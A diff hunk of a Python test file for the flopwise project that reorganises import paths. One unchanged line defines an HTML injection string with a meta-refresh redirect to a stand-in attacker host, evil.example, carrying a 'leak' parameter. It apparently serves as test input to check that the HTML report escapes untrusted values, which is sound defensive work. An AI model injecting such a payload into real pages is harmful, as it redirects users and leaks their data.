@@ -6,10 +6,10 @@ from pathlib import Path
 import pytest
 from report_pages import NAIVE, all_drawn, gathered
 
-from flopwise.lab.experiment import Verdict
-from flopwise.lab.results import LabRun, Planned, Result
+from flopwise.api.report import report
+from flopwise.experiments.experiment import Verdict
+from flopwise.experiments.results import LabRun, Planned, Result
 from flopwise.render.report import Report, ReportPart, html_report
-from flopwise.verbs.report import report
 
 LEADS_AWAY = 'x"><meta http-equiv=refresh content="0;url=https://evil.example/?leak"><h1>PWNED'
 
